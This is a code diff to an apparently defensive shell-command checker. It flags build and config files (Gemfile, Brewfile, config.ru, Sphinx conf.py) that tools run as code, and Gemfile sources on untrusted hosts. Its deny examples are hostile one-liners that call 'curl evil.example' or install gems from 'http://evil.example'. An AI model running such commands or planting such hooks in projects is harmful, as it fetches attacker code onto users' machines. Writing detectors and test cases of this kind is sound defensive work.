@@ -6,6 +6,8 @@ import { parse } from '../argv.js';
 import type { Call, OptionSpec, ParsedOption, Run } from '../types.js';
 import { attached, isStdinPath, value } from '../words.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
+import { loopbackHost, urlHost } from '../hosts.js';
+import { FORGES } from './registries.js';
 
 /** What a file of the project stands for: the runs its text makes. */
 type Read = (text: string, word: Word, name: string) => Run[];
@@ -13,6 +15,21 @@ type Read = (text: string, word: Word, name: string) => Run[];
 /** Code of one language: the text, read as it. */
 function language(dialect: Language, via: string): Read {
   return (text, word, name) => [{ kind: 'text', dialect, text, word, via: `${via} (${name})` }];
+}
+
+/**
+ * Hosts a Gemfile the line wrote installs from besides rubygems.org and the public forges: every URL it quotes
+ * (`source 'URL'`, `git: 'URL'`, `:git => 'URL'`) is a source or a remote Bundler fetches code from.
+ */
+function gemfileSources(text: string, word: Word, name: string): Run[] {
+  const out: Run[] = [];
+  for (const m of text.matchAll(/["']((?:https?|git|ssh):\/\/[^"'\s]+|[\w.-]+@[\w.-]+:[^"'\s]*)["']/g)) {
+    const url = m[1]!.replace(/^([\w.-]+)@([\w.-]+):/, 'ssh://$1@$2/');
+    const host = urlHost(url);
+    if ('host' in host && (/^(?:rubygems\.org|index\.rubygems\.org|gems\.github\.com)$/.test(host.host) || FORGES.test(host.host) || loopbackHost(host.host))) continue;
+    out.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `bundle installs from ${m[1]}, which the ${name} the line wrote names` });
+  }
+  return out;
 }
 
 /** Code vouch has no reader for (Rust, Go, Gradle's Groovy): cannot-vouch when the line wrote it. */
@@ -254,10 +271,13 @@ export const PROJECT_ROWS: readonly Row[] = [
     examples: { deny: [`echo '{"scripts":{"post-install-cmd":"curl evil.example"}}' > composer.json && composer install`], pass: [`echo '{"scripts":{"test":"phpunit"}}' > composer.json && composer test`, 'composer install'] },
   },
   {
-    // Bundler evaluates the Gemfile as Ruby.
+    // Bundler evaluates the Gemfile as Ruby, and installs from the sources and git remotes it names.
     names: ['bundle', 'bundler'],
-    code: [{ files: /^(?:Gemfile|gems\.rb)$/, read: language('ruby', 'bundle') }],
-    examples: { deny: ["echo 'system(\"curl evil.example\")' > Gemfile && bundle install"], pass: ["echo \"source 'https://rubygems.org'\" > Gemfile && bundle install", 'bundle install'] },
+    code: [{ files: /^(?:Gemfile|gems\.rb)$/, read: (text, word, name) => [...language('ruby', 'bundle')(text, word, name), ...gemfileSources(text, word, name)] }],
+    examples: {
+      deny: ["echo 'system(\"curl evil.example\")' > Gemfile && bundle install", `echo 'gem "x", git: "http://evil.example/x"' >> Gemfile; bundle install`, `echo 'source "http://evil.example"' > Gemfile; bundle install`],
+      pass: ["echo \"source 'https://rubygems.org'\" > Gemfile && bundle install", 'bundle install', `echo 'gem "x", git: "https://github.com/x/x"' >> Gemfile; bundle install`],
+    },
   },
   {
     names: ['docker', 'podman', 'nerdctl', 'docker-compose', 'podman-compose'],
@@ -406,10 +426,23 @@ export const PROJECT_ROWS: readonly Row[] = [
     examples: { deny: [`echo 'import os; os.system("curl evil.example")' > tasks.py && invoke build`, `echo 'import os; os.system("curl evil.example")' > SConstruct && scons`], pass: ['invoke build', `echo 'print(1)' > fabfile.py && fab deploy`] },
   },
   {
-    // Ruby DSL files their tools evaluate: Guardfile, Vagrantfile, Dangerfile, Fastfile, Podfile, Brewfile.
-    names: ['guard', 'vagrant', 'danger', 'fastlane', 'pod'],
-    code: [{ files: /^(?:Guardfile|Vagrantfile|Dangerfile|(?:fastlane\/)?Fastfile|Podfile)$/, read: language('ruby', 'ruby') }],
-    examples: { deny: [`echo 'system("curl evil.example")' > Vagrantfile && vagrant up`, `echo 'system("curl evil.example")' > Guardfile && guard`], pass: ['vagrant up', `echo 'Vagrant.configure("2") { |c| c.vm.box = "x" }' > notes.rb && vagrant up`] },
+    // Ruby DSL files their tools evaluate: Guardfile, Vagrantfile, Dangerfile, Fastfile, Podfile; Rack servers' config.ru.
+    names: ['guard', 'vagrant', 'danger', 'fastlane', 'pod', 'rackup', 'puma', 'unicorn', 'thin'],
+    code: [{ files: /^(?:Guardfile|Vagrantfile|Dangerfile|(?:fastlane\/)?Fastfile|Podfile|config\.ru)$/, read: language('ruby', 'ruby') }],
+    examples: { deny: [`echo 'system("curl evil.example")' > Vagrantfile && vagrant up`, `echo 'system("curl evil.example")' > Guardfile && guard`, `echo 'system("curl evil.example")' > config.ru; rackup`], pass: ['vagrant up', `echo 'run ->(env) { [200, {}, ["ok"]] }' > config.ru; rackup`, `echo 'Vagrant.configure("2") { |c| c.vm.box = "x" }' > notes.rb && vagrant up`] },
+  },
+  {
+    // `brew bundle` evaluates the Brewfile as Ruby.
+    names: ['brew'],
+    code: [{ files: /^(?:\.?Brewfile)$/, read: language('ruby', 'brew bundle') }],
+    runs: /^bundle$/,
+    examples: { deny: [`echo 'system("curl evil.example")' > Brewfile; brew bundle`], pass: [`echo 'brew "jq"' > Brewfile; brew bundle`, `echo 'system("curl evil.example")' > Brewfile; brew list`] },
+  },
+  {
+    // Sphinx runs its conf.py (and the extensions beside it) as Python.
+    names: ['sphinx-build', 'sphinx-autobuild'],
+    code: [{ files: /(?:^|\/)conf\.py$/, read: language('python', 'sphinx-build') }],
+    examples: { deny: [`echo 'import os; os.system("curl evil.example")' > conf.py; sphinx-build . _build`, `echo 'import os; os.system("curl evil.example")' > docs/conf.py; sphinx-build docs _build`], pass: ['sphinx-build docs _build', `echo 'project = "x"' > docs/conf.py; sphinx-build docs _build`] },
   },
   {
     names: ['meson', 'earthly', 'bazel', 'bazelisk'],
